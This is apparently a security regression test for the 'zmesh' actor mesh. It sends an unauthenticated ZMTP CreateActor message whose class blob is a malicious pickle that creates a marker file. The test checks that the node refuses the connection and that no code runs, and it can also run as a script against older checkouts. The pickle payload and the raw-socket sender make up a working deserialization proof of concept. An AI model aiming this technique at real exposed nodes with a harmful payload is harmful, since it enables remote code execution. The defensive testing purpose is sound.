"""The attack of issue 7, standalone: a stranger with only the standard library loads code.

A process without credentials speaks raw ZMTP (NULL mechanism, over a plain tcp socket) to a
node's port and sends one well-formed `CreateActor` whose class blob is a pickle that creates
a marker file when loaded. This file runs two ways:

- as a test (on this checkout): the node refuses the connection, no marker appears, and a
  driver with the token still works;
- as a script, ``python tests/security/test_stranger_pickle_attack.py``, against any
  checkout: it starts a one-node mesh of that checkout's zmesh, attacks it, and prints whether
  the marker appeared.

Result on the old code (recorded 2026-11-23): at b0054b6, the parent of 11ab51b (the commit
that brought CURVE, ZAP and the join token), run as a script in a scratch worktree with its
own editable install, it printed ``MARKER APPEARED after 1.2 s: the stranger's pickle ran
as this user`` (see RESULT_AT_B0054B6 below); on main the test below passes and the script
prints ``no marker``.
"""

from __future__ import annotations

import os
import sys
import tempfile
import time

RESULT_AT_B0054B6 = "MARKER APPEARED after 1.2 s: the stranger's pickle ran as this user"


class _OpenFile:
    """Unpickling this creates `path`."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (self.path, "w")


def _payload(marker: str) -> bytes:
    import pickle

    from zmesh.protocol import codec
    from zmesh.protocol.messages import runtime as m

    return codec.encode(m.CreateActor(
        actor_id=os.urandom(16), owner="tcp://127.0.0.1:1", fn_id=os.urandom(16),
        class_name="Evil", args=m.Args(), resources={}, placement={"CPU": 1.0},
        fn_blob=pickle.dumps(_OpenFile(marker))))


def stranger_sends(host: str, port: int, frame: bytes) -> bool:
    """Send `frame` as a ZMTP 3.0 NULL-mechanism DEALER (standard library only); True if
    the node got as far as sending its READY (it accepted the connection)."""
    from security_fixtures import raw_zmtp_null_dealer

    return b"READY" in raw_zmtp_null_dealer(host, port, b"tcp://127.0.0.1:1", [frame])


def attack_once(marker: str, wait_s: float = 30.0) -> str:
    """Start a one-node mesh of the zmesh on sys.path, attack it, report what happened."""
    from zmesh.testing import Cluster

    cluster = Cluster(initialize_head=True, head_node_args={"num_cpus": 1})
    try:
        address = str(cluster.address)
        host, port = address.rsplit(":", 1)
        start = time.monotonic()
        accepted = stranger_sends(host, int(port), _payload(marker))
        while time.monotonic() - start < wait_s:
            if os.path.exists(marker):
                return (f"MARKER APPEARED after {time.monotonic() - start:.1f} s: the "
                        "stranger's pickle ran as this user")
            time.sleep(0.1)
        return (f"no marker after {wait_s:g} s (the node "
                f"{'accepted' if accepted else 'refused'} the connection)")
    finally:
        cluster.shutdown()


def test_a_stranger_pickle_sent_over_raw_zmtp_runs_nothing(tmp_path: object) -> None:
    import zmesh
    from zmesh.testing import Cluster

    @zmesh.remote
    def add(a: int, b: int) -> int:
        return a + b

    marker = os.path.join(str(tmp_path), "pwned")
    cluster = Cluster(initialize_head=True, head_node_args={"num_cpus": 1},
                      shutdown_at_exit=False)
    try:
        host, port = str(cluster.address).rsplit(":", 1)
        assert not stranger_sends(host, int(port), _payload(marker)), \
            "the node accepted a ZMTP connection that presented no credentials"
        zmesh.init(address=cluster.address)
        try:
            assert zmesh.get(add.remote(1, 2), timeout=60) == 3
        finally:
            zmesh.shutdown()
        assert cluster.head_node is not None and cluster.head_node.alive()
        assert not os.path.exists(marker), "a stranger's pickle was loaded"
    finally:
        cluster.shutdown()


if __name__ == "__main__":
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    with tempfile.TemporaryDirectory() as scratch:
        print(attack_once(os.path.join(scratch, "pwned")))
    sys.exit(0)
